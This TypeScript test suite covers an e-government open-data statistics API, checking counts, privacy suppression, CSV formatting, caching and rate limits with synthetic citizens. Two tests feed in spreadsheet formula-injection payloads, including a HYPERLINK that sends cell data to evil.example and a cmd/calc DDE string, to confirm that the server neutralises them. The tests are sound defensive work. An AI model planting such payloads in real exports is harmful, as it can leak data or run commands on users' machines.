/**
 * Open data (issue 8): `GET open-data/statistics.json` and `.csv` through the real HTTP API.
 * Requests are made, decided with real passkey signatures (SoftAuthenticator) and issued, with
 * the server's clock moved between steps so that months and processing times are known; the
 * statistics must count exactly those, suppress what is below the minimum, and carry no name,
 * personal number, email or id of anyone.
 */
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import pino from 'pino';
import { startTestServer, type TestServer, type ApiResponse } from '../helpers/test-server.ts';
import { registerAccount, type Account } from '../helpers/accounts.ts';
import { checkAgainstOpenApi } from '../helpers/openapi.ts';
import { createInvite } from '../../server/services/invites.ts';
import { seedDemo, DEMO_AGENCY } from '../../server/seed.ts';
import { createApp } from '../../server/app.ts';
import { agencies } from '../../server/db/agencies.ts';
import { belgradeMonthStart, csvField, monthBuckets, publishRows } from '../../server/services/statistics.ts';
import { jmbgControlDigit } from '../../components/core/forms/validators.ts';
import type { Problem } from '../../components/core/problem.ts';
import type { ApplicationWithHistory, CaseView, OpenDataRow, OpenDataStatistics } from '../../components/core/api.ts';
import type { DecisionKind } from '../../components/core/signing/decision.ts';
import type { PublicKeyCredentialRequestOptionsJSON } from '@simplewebauthn/server';

const EXAMPLES = fileURLToPath(new URL('../../examples/forms', import.meta.url));
const DAY = 24 * 3600_000;
const JMBGS = ['010199071000', '020298571000', '150385571000', '311277710000', '070791171000', '120600571000', '250166710000', '090995571000', '181082571000']
  .map((d) => d + jmbgControlDigit(d));
const NAMES = ['Zorana Statistić', 'Vuk Brojanović', 'Milica Prosečna', 'Đorđe Medijanić', 'Ljiljana Uzorković', 'Nikola Procentić', 'Jovana Kvantilić', 'Bogdan Anketić', 'Teodora Zbirović'];
const EMAILS = NAMES.map((_, i) => `gradjanin${i}.statistika@example.rs`);

let server: TestServer;
let configDir: string;
let citizens: Account[];
let clerk: Account;
let head: Account;
/** A second clerk: the memo's drafter may not review it. */
let clerk2: Account;
/** Server time of the first submissions: the 10th of next month, 10:00 in Serbia (seal certificates are valid then). */
let base: number;
let baseMonth: string;
let nextMonth: string;
const created = { residence: [] as string[], extract: [] as string[], memo: [] as string[], trackingNumbers: [] as string[] };

function monthOf(at: number): string {
  return new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Belgrade' }).format(new Date(at)).slice(0, 7);
}

/** Sets the server's clock to `at`. */
function clockAt(at: number): void {
  server.clock.offset = at - Date.now();
}

before(async () => {
  // Sessions must outlive the weeks the clock is moved by.
  configDir = mkdtempSync(join(tmpdir(), 'overa-stats-config-'));
  writeFileSync(join(configDir, 'overa.config.json'), JSON.stringify({ sessionTtl: 120 * 24 * 3600 }));
  server = await startTestServer({ OVERA_FORMS_DIR: EXAMPLES, OVERA_CONFIG: join(configDir, 'overa.config.json') });
  const now = Date.now();
  await seedDemo(server.db, now);
  const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Belgrade' }).format(new Date(now));
  const [y, m] = [Number(today.slice(0, 4)), Number(today.slice(5, 7))];
  base = belgradeMonthStart(y, m + 1) + 9 * DAY + 10 * 3600_000;
  baseMonth = monthOf(base);
  nextMonth = monthOf(belgradeMonthStart(y, m + 2) + DAY);
  citizens = [];
  for (const name of NAMES) citizens.push(await registerAccount(server, name));
  clerk = await registerAccount(server, 'Petar Službenik', await createInvite(server.db, { agencyId: DEMO_AGENCY.id, roles: ['clerk'] }, now));
  clerk2 = await registerAccount(server, 'Jelena Referent', await createInvite(server.db, { agencyId: DEMO_AGENCY.id, roles: ['clerk'] }, now));
  head = await registerAccount(server, 'Milan Načelnik', await createInvite(server.db, { agencyId: DEMO_AGENCY.id, roles: ['head'] }, now));
});
after(async () => {
  await server.close();
  rmSync(configDir, { recursive: true, force: true });
});

// ---- the real API ----

interface Options { flowId: string; publicKey: PublicKeyCredentialRequestOptionsJSON }

async function apply(who: Account, formId: string, data: Record<string, unknown>): Promise<string> {
  const draft = await server.api<ApplicationWithHistory>('POST', '/api/v1/applications', { token: who.token, body: { formId, formVersion: 1, data } });
  assert.equal(draft.status, 201, JSON.stringify(draft.body));
  const submitted = await server.api<ApplicationWithHistory>('POST', `/api/v1/applications/${draft.body.id}/submit`, { token: who.token, body: {} });
  assert.equal(submitted.status, 200, JSON.stringify(submitted.body));
  created.trackingNumbers.push(submitted.body.trackingNumber);
  return draft.body.id;
}

function residence(i: number) {
  const [firstName, lastName] = NAMES[i]!.split(' ');
  return {
    firstName, lastName, jmbg: JMBGS[i], street: 'Bulevar oslobođenja 12', place: 'Novi Primer', postalCode: '21000',
    purpose: 'employment', delivery: 'online', email: EMAILS[i],
  };
}

function extract(i: number) {
  const [firstName, lastName] = NAMES[i]!.split(' ');
  return { firstName, lastName, jmbg: JMBGS[i], dateOfBirth: '1990-01-01', placeOfBirth: 'Zemun, Beograd', purpose: 'employment' };
}

async function decide(who: Account, id: string, step: string, decision: DecisionKind, comment?: string): Promise<CaseView> {
  const current = await server.api<CaseView>('GET', `/api/v1/cases/${id}`, { token: who.token });
  assert.equal(current.status, 200, JSON.stringify(current.body));
  const subject = { type: 'decision', id: `${id}:${step}` };
  const o = await server.api<Options>('POST', '/api/v1/signatures/options', { token: who.token, body: comment === undefined ? { subject, action: decision } : { subject, action: decision, context: { comment } } });
  assert.equal(o.status, 200, JSON.stringify(o.body));
  const credential = await who.authenticator.get(o.body.publicKey);
  const s = await server.api<{ id: string }>('POST', '/api/v1/signatures', { token: who.token, body: { flowId: o.body.flowId, credential } });
  assert.equal(s.status, 201, JSON.stringify(s.body));
  const res = await server.api<CaseView>('POST', `/api/v1/cases/${id}/decisions`, {
    token: who.token, headers: { 'If-Match': `"${current.body.version}"` },
    body: { step, decision, ...(comment === undefined ? {} : { comment }), signatureId: s.body.id },
  });
  assert.equal(res.status, 200, JSON.stringify(res.body));
  return res.body;
}

/** Review by the clerk, approval by the head: the document is issued. */
async function approve(id: string): Promise<void> {
  await decide(clerk, id, 'review', 'review');
  const c = await decide(head, id, 'approve', 'approve');
  assert.equal(c.status, 'issued');
}

/** Every answer is also checked against the OpenAPI document (server/openapi/paths/open-data.ts). */
async function statistics(query = '', headers: Record<string, string> = {}): Promise<ApiResponse<OpenDataStatistics>> {
  const res = await server.api<OpenDataStatistics>('GET', `/api/v1/open-data/statistics.json${query}`, { headers });
  checkAgainstOpenApi('GET', '/api/v1/open-data/statistics.json', res.status, res.status === 304 ? undefined : res.body, res.headers.get('content-type'), res.headers);
  return res;
}

async function csv(query = ''): Promise<{ status: number; headers: Headers; text: string }> {
  const res = await fetch(`${server.url}/api/v1/open-data/statistics.csv${query}`);
  const text = await res.text();
  const type = res.headers.get('content-type');
  checkAgainstOpenApi('GET', '/api/v1/open-data/statistics.csv', res.status, /json/.test(type ?? '') ? JSON.parse(text) : text, type, res.headers);
  return { status: res.status, headers: res.headers, text };
}

function row(stats: OpenDataStatistics, formId: string, month: string): OpenDataRow | undefined {
  return stats.rows.find((r) => r.formId === formId && r.month === month);
}

const shown = (value: number) => ({ value, suppressed: false });
const hidden = { value: null, suppressed: true };

/** RFC 4180 parsing: CRLF records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else {
      assert.notEqual(c, '\n', 'a bare LF: records end with CRLF');
      field += c;
    }
  }
  assert.equal(field + record.join(''), '', 'the last record ends with CRLF');
  return records;
}

// ---- the scenario ----

describe('open data statistics', () => {
  before(async () => {
    // Seven certificates of residence, first submitted on the 10th of next month.
    clockAt(base);
    for (let i = 0; i < 7; i++) created.residence.push(await apply(citizens[i]!, 'certificate-of-residence', residence(i)));
    // Two birth-register extracts (too few to publish) and an internal memo (not a public service).
    for (let i = 7; i < 9; i++) created.extract.push(await apply(citizens[i]!, 'birth-register-extract', extract(i)));
    const memo = await server.api<ApplicationWithHistory>('POST', '/api/v1/applications', {
      token: clerk.token, body: { formId: 'internal-memo', formVersion: 1, data: { subject: 'Nabavka papira', body: 'Predlažem nabavku 20 ris papira.' } },
    });
    assert.equal(memo.status, 201);
    assert.equal((await server.api('POST', `/api/v1/applications/${memo.body.id}/submit`, { token: clerk.token, body: {} })).status, 200);
    created.memo.push(memo.body.id);

    // Outcomes, each on its own day: approved (and issued) after 1, 2, 3, 4 and 10 days,
    // rejected after 5; the last one returned after 3 days and resubmitted the next month.
    const [r0, r1, r2, r3, r4, r5, r6] = created.residence as [string, string, string, string, string, string, string];
    clockAt(base + 1 * DAY);
    await approve(r0);
    clockAt(base + 2 * DAY);
    await approve(r1);
    clockAt(base + 3 * DAY);
    await approve(r2);
    await decide(clerk, r6, 'review', 'return', 'Priložite dokaz o adresi.');
    clockAt(base + 4 * DAY);
    await approve(r3);
    clockAt(base + 5 * DAY);
    await decide(clerk, r5, 'review', 'reject', 'Podnosilac nema prebivalište u Novom Primeru.');
    clockAt(base + 10 * DAY);
    await approve(r4);
    // One extract approved, one rejected: a row of counts that are all below five.
    await approve(created.extract[0]!);
    await decide(clerk, created.extract[1]!, 'review', 'reject', 'Upis nije pronađen.');
    // The internal memo is decided too: it must still not appear.
    await decide(clerk2, created.memo[0]!, 'review', 'review');
    // The returned case comes back in the next month: it stays in the month it was first submitted.
    clockAt(base + 25 * DAY);
    assert.notEqual(monthOf(base + 25 * DAY), baseMonth);
    const again = await server.api<ApplicationWithHistory>('POST', `/api/v1/applications/${r6}/submit`, { token: citizens[6]!.token, body: {} });
    assert.equal(again.status, 200, JSON.stringify(again.body));
    clockAt(base + 26 * DAY);
  });

  test('counts exactly the requests and decisions made, in the month of first submission', async () => {
    const res = await statistics();
    assert.equal(res.status, 200, JSON.stringify(res.body));
    assert.match(res.headers.get('content-type') ?? '', /^application\/json; charset=utf-8$/);
    const stats = res.body;
    assert.equal(stats.minCount, 5);
    assert.equal(stats.timeZone, 'Europe/Belgrade');
    assert.deepEqual(stats.filters, { agency: null, form: null, from: null, to: null });
    assert.equal(stats.asOf.slice(0, 7), nextMonth);
    assert.deepEqual(stats.rows.map((r) => `${r.agencyId} ${r.formId} ${r.month}`), [
      `novi-primer birth-register-extract ${baseMonth}`,
      `novi-primer certificate-of-residence ${baseMonth}`,
    ], 'one row per form and month; the resubmission does not make a row of its own, the memo is left out');
    assert.deepEqual(row(stats, 'certificate-of-residence', baseMonth), {
      agencyId: 'novi-primer',
      formId: 'certificate-of-residence',
      month: baseMonth,
      submitted: shown(7),
      approved: shown(5),
      returned: hidden,
      rejected: hidden,
      issued: shown(5),
      finished: shown(6),
      // 1, 2, 3, 4, 5 and 10 days: the median between 3 and 4, the 90th percentile between 5 and 10.
      medianDays: shown(3.5),
      p90Days: shown(7.5),
      // The form's 30-day time limit: all six decided within it (test/server/deadlines.test.ts has late ones).
      decidedOnTime: shown(6),
      onTimePercent: shown(100),
    });
    assert.deepEqual(stats.agencies, [{ id: 'novi-primer', name: DEMO_AGENCY.name }]);
    assert.deepEqual(stats.forms.map((f) => f.id), ['birth-register-extract', 'certificate-of-residence']);
    assert.equal((stats.forms[1]!.title as { en: string }).en, 'Apply for a certificate of residence');
  });

  test('a form with two requests is suppressed entirely, times included', async () => {
    const stats = (await statistics()).body;
    assert.deepEqual(row(stats, 'birth-register-extract', baseMonth), {
      agencyId: 'novi-primer', formId: 'birth-register-extract', month: baseMonth,
      submitted: hidden, approved: hidden, returned: hidden, rejected: hidden, issued: hidden, finished: hidden, medianDays: hidden, p90Days: hidden,
      decidedOnTime: hidden, onTimePercent: hidden,
    });
  });

  test('with openDataMinCount 1, the small counts are shown, and they are what was made', async () => {
    const app = createApp({ ...server.config, openDataMinCount: 1 }, { db: server.db, now: () => Date.now() + server.clock.offset, log: pino({ level: 'silent' }) });
    const http: Server = createServer(app.callback());
    await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
    try {
      const address = http.address() as { port: number };
      const stats = (await (await fetch(`http://127.0.0.1:${address.port}/api/v1/open-data/statistics.json`)).json()) as OpenDataStatistics;
      assert.equal(stats.minCount, 1);
      const r = row(stats, 'certificate-of-residence', baseMonth)!;
      assert.deepEqual([r.submitted, r.approved, r.returned, r.rejected, r.issued, r.finished].map((f) => f.value), [7, 5, 1, 1, 5, 6]);
      const e = row(stats, 'birth-register-extract', baseMonth)!;
      // Nothing was returned: a zero is below the minimum too ("nobody was returned" says something about everyone).
      assert.deepEqual([e.submitted, e.approved, e.returned, e.rejected, e.issued, e.finished].map((f) => f.value), [2, 1, null, 1, 1, 2]);
      // Two finished after 10 days each: both quantiles are 10.
      assert.deepEqual([e.medianDays, e.p90Days], [shown(10), shown(10)]);
      assert.deepEqual([e.decidedOnTime, e.onTimePercent], [shown(2), shown(100)], 'both decided within the 30-day time limit');
      assert.equal(stats.rows.some((x) => x.formId === 'internal-memo'), false);
    } finally {
      await new Promise<void>((resolve) => http.close(() => resolve()));
    }
  });

  test('filters choose rows: agency, form and months', async () => {
    const byForm = (await statistics('?form=certificate-of-residence')).body;
    assert.deepEqual(byForm.rows.map((r) => r.formId), ['certificate-of-residence']);
    assert.deepEqual(byForm.filters, { agency: null, form: 'certificate-of-residence', from: null, to: null });
    assert.deepEqual(row(byForm, 'certificate-of-residence', baseMonth), row((await statistics()).body, 'certificate-of-residence', baseMonth), 'a filter never changes a row');
    assert.equal((await statistics('?agency=novi-primer')).body.rows.length, 2);
    assert.equal((await statistics('?agency=drugi-grad')).body.rows.length, 0, 'an agency with nothing is empty, not an error');
    assert.equal((await statistics('?form=internal-memo')).body.rows.length, 0, 'internal forms are never published');
    assert.equal((await statistics('?form=no-such-form')).body.rows.length, 0);
    assert.equal((await statistics(`?from=${baseMonth}&to=${baseMonth}`)).body.rows.length, 2);
    assert.equal((await statistics(`?from=${nextMonth}`)).body.rows.length, 0, 'nothing was first submitted in the next month');
    assert.equal((await statistics(`?to=${monthOf(base - 40 * DAY)}`)).body.rows.length, 0);
  });

  test('contains no name, personal number, email, tracking number or id of anyone', async () => {
    const json = JSON.stringify((await statistics()).body);
    const table = (await csv()).text;
    const cyrillic = (await csv('?lang=sr-Cyrl')).text;
    const secrets = [
      ...NAMES, ...NAMES.flatMap((n) => n.split(' ')), ...JMBGS, ...EMAILS, ...created.trackingNumbers,
      ...created.residence, ...created.extract, ...created.memo,
      ...citizens.map((c) => c.user.id), clerk.user.id, clerk2.user.id, head.user.id, 'Petar', 'Jelena', 'Referent', 'Službenik', 'Milan', 'Načelnik',
      'Priložite', 'prebivalište u Novom', 'Upis nije',
    ];
    for (const body of [json, table, cyrillic]) {
      for (const secret of secrets) assert.equal(body.includes(secret), false, `"${secret}" is in ${body.slice(0, 80)}…`);
    }
  });

  test('the CSV: a header row, RFC 4180, the same figures, empty cells with a note', async () => {
    const res = await csv();
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'text/csv; charset=utf-8');
    assert.match(res.headers.get('content-disposition') ?? '', /^attachment; filename="overa-statistics\.csv"$/);
    const records = parseCsv(res.text);
    assert.deepEqual(records[0], [
      'agency_id', 'agency_name', 'form_id', 'form_title', 'month',
      'submitted', 'approved', 'returned', 'rejected', 'issued', 'finished', 'median_days', 'p90_days', 'note',
      'decided_on_time', 'on_time_percent',
    ]);
    assert.equal(records.length, 3);
    const [, extractLine, residenceLine] = records as [string[], string[], string[]];
    assert.deepEqual(residenceLine, [
      'novi-primer', DEMO_AGENCY.name, 'certificate-of-residence', 'Zahtev za uverenje o prebivalištu', baseMonth,
      '7', '5', '', '', '5', '6', '3.5', '7.5', 'Prazna polja: manje od 5 (izostavljeno da se niko ne bi mogao prepoznati)',
      '6', '100',
    ]);
    assert.deepEqual(extractLine.slice(5, 13), ['', '', '', '', '', '', '', '']);
    assert.match(extractLine[13]!, /manje od 5/);

    const en = parseCsv((await csv('?lang=en&form=certificate-of-residence')).text);
    assert.deepEqual(en[1]!.slice(3, 5), ['Apply for a certificate of residence', baseMonth]);
    assert.equal(en[1]![13], 'Empty cells: fewer than 5 (left out so that no person can be identified)');
    const cyr = parseCsv((await csv('?lang=sr-Cyrl&form=certificate-of-residence')).text);
    assert.equal(cyr[1]![1], 'Градска управа Нови Пример');
    assert.match(cyr[1]![13]!, /^Празна поља: мање од 5/);
  });

  test('fields with commas, quotes and line breaks are quoted (RFC 4180)', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a, b'), '"a, b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\r\nlines'), '"two\r\nlines"');
    assert.equal(csvField(null), '');
    assert.equal(csvField(3.5), '3.5');
    assert.deepEqual(parseCsv(`${['a, b', 'say "hi"', 'two\r\nlines', ''].map(csvField).join(',')}\r\n`), [['a, b', 'say "hi"', 'two\r\nlines', '']]);
  });

  test('text a spreadsheet would run as a formula gets a quote in front (OWASP CSV injection), still RFC 4180', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) assert.equal(csvField(`${lead}x`).replace(/"/g, ''), `'${lead}x`, JSON.stringify(lead));
    assert.equal(csvField('=1+1'), "'=1+1");
    assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(csvField('=HYPERLINK("http://evil.example","x")'), '"\'=HYPERLINK(""http://evil.example"",""x"")"');
    assert.equal(csvField('\rline'), '"\'\rline"');
    assert.equal(csvField('-a, b'), '"\'-a, b"');
    // Only at the start, and numbers are figures.
    assert.equal(csvField('a=b'), 'a=b');
    assert.equal(csvField(' =x'), ' =x');
    assert.equal(csvField(-1.5), '-1.5');
    assert.deepEqual(parseCsv(`${['=1+1', '=a,"b"', '-x'].map(csvField).join(',')}\r\n`), [["'=1+1", '\'=a,"b"', "'-x"]]);
  });

  test('public and cacheable: no sign-in, Cache-Control, an ETag and 304', async () => {
    const res = await statistics();
    assert.equal(res.headers.get('cache-control'), 'public, max-age=300');
    const etag = res.headers.get('etag');
    assert.ok(etag);
    // (fetch adds `Cache-Control: no-cache` to a conditional request unless it has one, and the server then never says 304.)
    const again = await statistics('', { 'If-None-Match': etag, 'Cache-Control': 'max-age=0' });
    assert.equal(again.status, 304);
    const table = await csv();
    assert.ok(table.headers.get('etag'));
    assert.notEqual(table.headers.get('etag'), etag);
    // A signed-in caller gets the very same figures.
    const signedIn = await server.api<OpenDataStatistics>('GET', '/api/v1/open-data/statistics.json', { token: clerk.token });
    assert.deepEqual(signedIn.body, res.body);
  });

  test('400 for bad query values, naming the parameter', async () => {
    const bad: [string, string][] = [
      ['?agency=Novi_Primer', 'agency'],
      ['?agency=', 'agency'],
      [`?form=${'a'.repeat(65)}`, 'form'],
      ['?form=a--b', 'form'],
      ['?form=a&form=b', 'form'],
      ['?from=2026-13', 'from'],
      ['?from=2026-1', 'from'],
      ['?from=1999-12', 'from'],
      ['?to=2026-00', 'to'],
      ['?to=next', 'to'],
      ['?from=2026-05&to=2026-04', 'to'],
      ['?from=2000-01&to=2099-12', 'to'],
      ['?lang=de', 'lang'],
    ];
    for (const [query, field] of bad) {
      for (const path of ['statistics.json', 'statistics.csv']) {
        const res = await server.api<Problem>('GET', `/api/v1/open-data/${path}${query}`);
        checkAgainstOpenApi('GET', `/api/v1/open-data/${path}`, res.status, res.body, res.headers.get('content-type'), res.headers);
        assert.equal(res.status, 400, `${path}${query}`);
        assert.match(res.headers.get('content-type') ?? '', /^application\/problem\+json/);
        assert.equal(res.body.errors?.[0]?.field, field, `${path}${query}: ${JSON.stringify(res.body)}`);
      }
    }
  });

  test('rate-limited per client IP (OVERA_RATE_LIMIT_OPEN_DATA), one budget for JSON and CSV: 429 with Retry-After', async () => {
    const limited = await startTestServer({ OVERA_RATE_LIMIT_OPEN_DATA: '2/60' });
    try {
      const statuses: number[] = [];
      let retryAfter: string | null = null;
      for (const ext of ['json', 'csv', 'json', 'csv']) {
        const res = await fetch(`${limited.url}/api/v1/open-data/statistics.${ext}`);
        statuses.push(res.status);
        const text = await res.text();
        if (res.status === 429) {
          retryAfter = res.headers.get('retry-after');
          checkAgainstOpenApi('GET', `/api/v1/open-data/statistics.${ext}`, 429, JSON.parse(text), res.headers.get('content-type'), res.headers);
        }
      }
      // Two in a window (a window may end between them: then the count starts again).
      assert.ok(statuses.filter((s) => s === 200).length >= 2 && statuses.includes(429), JSON.stringify(statuses));
      assert.match(retryAfter ?? '', /^\d+$/);
    } finally {
      await limited.close();
    }
  });
});

describe('formulas in names and titles', () => {
  test('an agency name and a form title that start like formulas reach the CSV neutralised, in every language', async () => {
    // The certificate of residence with titles an operator (or whoever edits the files) might write.
    const formsDir = mkdtempSync(join(tmpdir(), 'overa-stats-forms-'));
    const definition = JSON.parse(readFileSync(join(EXAMPLES, 'certificate-of-residence.json'), 'utf8')) as Record<string, unknown>;
    delete definition.$schema;
    const title = { 'sr-Latn': '=HYPERLINK("http://evil.example/?"&A1,"Uverenje")', en: '+cmd|\' /C calc\'!A0' };
    writeFileSync(join(formsDir, 'certificate-of-residence.json'), JSON.stringify({ ...definition, title }));
    const s = await startTestServer({ OVERA_FORMS_DIR: formsDir });
    try {
      await seedDemo(s.db, Date.now());
      await agencies.upsert(s.db, { id: DEMO_AGENCY.id, name: '@SUM(1+1)*cmd', created_at: Date.now() });
      const citizen = await registerAccount(s, NAMES[0]!);
      const draft = await s.api<ApplicationWithHistory>('POST', '/api/v1/applications', { token: citizen.token, body: { formId: 'certificate-of-residence', formVersion: 1, data: residence(0) } });
      assert.equal(draft.status, 201, JSON.stringify(draft.body));
      assert.equal((await s.api('POST', `/api/v1/applications/${draft.body.id}/submit`, { token: citizen.token, body: {} })).status, 200);
      const read = async (lang: string) => {
        const res = await fetch(`${s.url}/api/v1/open-data/statistics.csv?lang=${lang}`);
        assert.equal(res.status, 200);
        const records = parseCsv(await res.text());
        assert.equal(records.length, 2, JSON.stringify(records));
        return records[1]!;
      };
      const latin = await read('sr-Latn');
      assert.deepEqual(latin.slice(0, 4), ['novi-primer', "'@SUM(1+1)*cmd", 'certificate-of-residence', `'${title['sr-Latn']}`]);
      assert.deepEqual((await read('en')).slice(1, 4), ["'@SUM(1+1)*cmd", 'certificate-of-residence', `'${title.en}`]);
      for (const cell of await read('sr-Cyrl')) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
      // The JSON carries the names as they are: it is data, not a spreadsheet.
      const json = await s.api<OpenDataStatistics>('GET', '/api/v1/open-data/statistics.json');
      assert.equal(json.body.agencies[0]!.name, '@SUM(1+1)*cmd');
    } finally {
      await s.close();
      rmSync(formsDir, { recursive: true, force: true });
    }
  });
});

describe('the rules, without a server', () => {
  test('months are calendar months in Serbia, across daylight saving time', () => {
    const [march, april] = monthBuckets(2026 * 12 + 2, 2026 * 12 + 3) as [{ month: string; start: number; end: number }, { month: string; start: number; end: number }];
    assert.equal(march.month, '2026-03');
    assert.equal(new Date(march.start).toISOString(), '2026-02-28T23:00:00.000Z', 'CET: UTC+1');
    assert.equal(new Date(march.end).toISOString(), '2026-03-31T22:00:00.000Z', 'CEST: UTC+2');
    assert.equal(april.start, march.end);
    assert.equal(new Date(belgradeMonthStart(2026, 13)).toISOString(), '2026-12-31T23:00:00.000Z', 'month 13 is January of the next year');
  });

  test('quantiles interpolate between ranks; suppression below the minimum', () => {
    const counts = [{ agencyId: 'a', formId: 'f', month: '2026-03', submitted: 9, approved: 4, returned: 0, rejected: 5, issued: 4, finished: 9, finishedWithDeadline: 0, onTime: 0 }];
    // Nine times 1..9 days: the median is the 5th (5), the 90th percentile 8 + 0.2 * (9 - 8).
    const ranked = [5, 6, 8, 9].map((rank) => ({ agencyId: 'a', formId: 'f', month: '2026-03', n: 9, rank, ms: rank * DAY }));
    const [r] = publishRows(counts, ranked, 5);
    assert.deepEqual(r!.medianDays, shown(5));
    assert.deepEqual(r!.p90Days, shown(8.2));
    assert.deepEqual([r!.submitted, r!.approved, r!.returned, r!.rejected], [shown(9), hidden, hidden, shown(5)]);
    const [few] = publishRows([{ ...counts[0]!, finished: 4 }], ranked, 5);
    assert.deepEqual([few!.medianDays, few!.p90Days, few!.finished], [hidden, hidden, hidden]);
  });
});
